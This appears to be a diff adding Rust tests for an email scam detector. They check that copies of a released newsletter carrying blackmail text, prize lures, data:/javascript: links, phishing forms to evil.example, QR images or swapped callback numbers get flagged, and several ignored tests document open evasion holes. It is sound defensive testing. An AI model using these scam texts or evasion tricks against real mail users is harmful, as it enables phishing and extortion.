@@ -1,0 +1,185 @@
+//! The third adversarial review of per-account learning: a scammer who knows which
+//! newsletter a user released copies it and makes it harmful in ways the harm checks
+//! ([`harms`](super::harms)) might not see, counting on the release to keep the copy in
+//! INBOX whoever sends it. Fixed holes are ordinary tests; the ones left open are
+//! `#[ignore]`d with the hole and its fix named (`cargo test -p scamguard-engine
+//! attacks_harms -- --ignored` shows them failing).
+
+use super::attacks::released_newsletter;
+use super::tests::{NEWS, NEWS_TOO, flat, parse, with};
+use super::*;
+use crate::detect::{Label, classify};
+use crate::mail;
+
+/// The released newsletter's text with another greeting, and `extra` after it.
+fn copy_text(extra: &str) -> String {
+    format!("Hello Mary,\n{NEWS}\n{NEWS_TOO}\n{extra}")
+}
+
+/// The same, as an HTML mail from a stranger's domain no server vouches for.
+fn html_copy(extra: &str) -> Email {
+    let raw = format!(
+        "From: Shop <news@shop-mail.example>\r\nTo: me@home.example\r\nSubject: Autumn\r\n\
+         Content-Type: text/html; charset=utf-8\r\n\r\n<p>Hello Mary,</p><p>{NEWS}</p><p>{NEWS_TOO}</p>{extra}"
+    );
+    mail::parse(raw.as_bytes()).expect("parses")
+}
+
+/// Asserts each mail is a near-copy of the released newsletter at the bar a harmless copy
+/// is credited from (so only the harm checks can stop the credit), and is moved.
+fn each_moved(detector: &Detector, personal: &Personal, released: &Email, mails: Vec<(&str, Email)>) {
+    let learned = with(detector, personal);
+    let released = Sketch::of(released).expect("long");
+    for (what, mail) in mails {
+        let alike = Sketch::of(&mail).map_or(0.0, |s| s.similarity(&released));
+        assert!(alike >= HARMLESS_NEAR, "{what}: only {alike} alike, no test of the harm checks");
+        let verdict = classify(&mail, &learned);
+        assert_eq!(verdict.label, Label::Threat, "a copy with {what} stayed: {verdict:?}");
+    }
+}
+
+/// The released newsletter (see `attacks::released_newsletter`) as the user saw it.
+fn newsletter() -> Email {
+    let text = format!("Hello John,\n{NEWS}\n{NEWS_TOO}\nShort link: https://bit.ly/autumn");
+    parse("Shop <news@shop.example>", "Autumn", &text)
+}
+
+/// A near-copy may add as many words as the released mail had (half alike): enough for a
+/// whole blackmail letter or a prize lure that asks for no payment, wallet or password
+/// in words the harm checks knew, only for a reply. What the copy claims (a recording, a
+/// threat, a prize, a deadline) the released mail did not is harm too.
+#[test]
+fn a_copy_of_a_released_newsletter_carrying_a_threat_or_a_lure_without_a_wallet_is_moved() {
+    let detector = flat(3.0, 12);
+    let personal = released_newsletter(&detector);
+    let from = "Shop <news@shop-mail.example>";
+    let mails = vec![
+        (
+            "blackmail asking for a reply",
+            parse(
+                from,
+                "Autumn",
+                &copy_text(
+                    "I recorded you through your camera while you watched adult sites. Reply within two \
+                 days or the video goes to all your contacts and family.",
+                ),
+            ),
+        ),
+        (
+            "a prize asking for a reply",
+            parse(
+                from,
+                "Autumn",
+                &copy_text(
+                    "Congratulations, you have won a reward voucher in our prize draw. Reply with your \
+                 full name and home address to claim your prize.",
+                ),
+            ),
+        ),
+    ];
+    each_moved(&detector, &personal, &newsletter(), mails);
+    // The plain copy still stays: the release vouches for that text.
+    let plain = classify(&parse(from, "Autumn", &copy_text("")), &with(&detector, &personal));
+    assert_eq!(plain.label, Label::Clean, "{plain:?}");
+}
+
+/// A link with no host to compare (a `data:` page holding the phishing form itself, a
+/// `javascript:` one, a `tel:` number to call) goes somewhere the released mail's sites
+/// say nothing about: it hides where it goes.
+#[test]
+fn a_copy_whose_link_leaves_the_web_is_moved() {
+    let detector = flat(3.0, 12);
+    let personal = released_newsletter(&detector);
+    let mails = vec![
+        ("a data: page", html_copy("<a href=\"data:text/html;base64,PGZvcm0+\">Open your voucher</a>")),
+        ("a javascript: link", html_copy("<a href=\" JavaScript:go()\">Open your voucher</a>")),
+        ("a number to call", html_copy("<a href=\"tel:+18885550100\">Call us about your order</a>")),
+    ];
+    each_moved(&detector, &personal, &newsletter(), mails);
+    let plain = classify(&html_copy("<a href=\"#top\">Back to the top</a>"), &with(&detector, &personal));
+    assert_eq!(plain.label, Label::Clean, "an anchor within the mail is no link out: {plain:?}");
+}
+
+/// Only `<a href>` links and URLs written with `www.` or a scheme are links to the
+/// checks; a form's action, an image map's area, a remote image (a QR code to scan) and a
+/// bare domain mail apps make clickable go to hosts no check sees.
+#[test]
+#[ignore = "hole: links_within and hides_links read only <a href> and www./scheme URLs in the text, so a copy \
+    posting a form to evil.example, an <area href>, an <img src> from evil.example (a QR code) or a bare \
+    'evil-shop.com/autumn' is credited; fix: mail::html gathers form actions, area hrefs and img srcs into a \
+    field of their own (not links: the model's features must not change) and the harmless path requires \
+    those hosts and written-out domains (DOMAIN_LIKE over the text) among the released mail's sites too"]
+fn a_copy_sending_the_reader_elsewhere_without_a_link_is_moved() {
+    let detector = flat(3.0, 12);
+    let personal = released_newsletter(&detector);
+    let mails = vec![
+        (
+            "a form",
+            html_copy(
+                "<form action=\"https://evil.example/claim\"><input name=card><button>Claim</button></form>",
+            ),
+        ),
+        (
+            "an image map",
+            html_copy(
+                "<img src=\"map.png\" usemap=\"#m\"><map name=m><area href=\"https://evil.example/x\"></map>",
+            ),
+        ),
+        ("a QR code", html_copy("<img src=\"https://evil.example/qr.png\" alt=\"\">")),
+        (
+            "a bare domain",
+            parse("Shop <news@shop-mail.example>", "Autumn", &copy_text("Order at evil-shop.com/autumn")),
+        ),
+    ];
+    each_moved(&detector, &personal, &newsletter(), mails);
+}
+
+/// Sites are compared by registrable domain: every customer of a mailing service's click
+/// tracker has a subdomain of the same site, and a site where anyone publishes by path
+/// serves the scammer's page beside the newsletter's.
+#[test]
+#[ignore = "hole: links_within compares registrable domains, so evil.us5.list-manage.com (any Mailchimp customer's \
+    click tracker, redirecting anywhere) passes for a release linking shop.us5.list-manage.com, and \
+    docs.google.com/forms/... for one linking a docs.google.com document; fix: digest v4 keeps the hashes of \
+    the links' full hosts and the harmless path requires each host (not site) to be one the released mail \
+    linked, and no link on a host that publishes by path (a table: docs.google.com, github.com, ...)"]
+fn a_copy_linking_another_customer_of_a_released_sites_platform_is_moved() {
+    let detector = flat(3.0, 12);
+    let text = format!(
+        "Hello John,\n{NEWS}\n{NEWS_TOO}\nhttps://shop.us5.list-manage.com/track/click?u=1 \
+         https://docs.google.com/document/d/abc"
+    );
+    let released = parse("Shop <news@shop.example>", "Autumn", &text);
+    let mut personal = Personal::default();
+    personal.learn(Feedback::Released, &released, &detector);
+    let personal = Personal::new(Layer::default(), personal.copies().cloned());
+    let from = "Shop <news@shop-mail.example>";
+    let mails = vec![
+        (
+            "another customer's tracker",
+            parse(from, "Autumn", &copy_text("https://evil.us5.list-manage.com/track/click?u=2")),
+        ),
+        (
+            "a form on the same site",
+            parse(from, "Autumn", &copy_text("https://docs.google.com/forms/d/e/xyz/viewform")),
+        ),
+    ];
+    each_moved(&detector, &personal, &released, mails);
+}
+
+/// Words holding a digit are left out of digests (a scam's copies differ in amounts), so a
+/// copy that changes only the number to call is the released mail to the digest.
+#[test]
+#[ignore = "hole: digests drop words with digits, so a copy of a released notice with the scammer's phone number \
+    in place of the sender's is 100% alike and credited (a callback scam); fix: the digest keeps the hashes of \
+    the phone-like numbers (7+ digits) the mail shows, and the harmless path requires the copy's among them"]
+fn a_copy_changing_only_the_number_to_call_is_moved() {
+    let detector = flat(3.0, 12);
+    let text = |number: &str| format!("{NEWS}\n{NEWS_TOO}\nQuestions about an order? Call us on {number}.");
+    let released = parse("Shop <news@shop.example>", "Autumn", &text("0800 111 2222"));
+    let mut personal = Personal::default();
+    personal.learn(Feedback::Released, &released, &detector);
+    let personal = Personal::new(Layer::default(), personal.copies().cloned());
+    let copy = parse("Shop <news@shop-mail.example>", "Autumn", &text("0900 666 7777"));
+    each_moved(&detector, &personal, &released, vec![("another number", copy)]);
+}
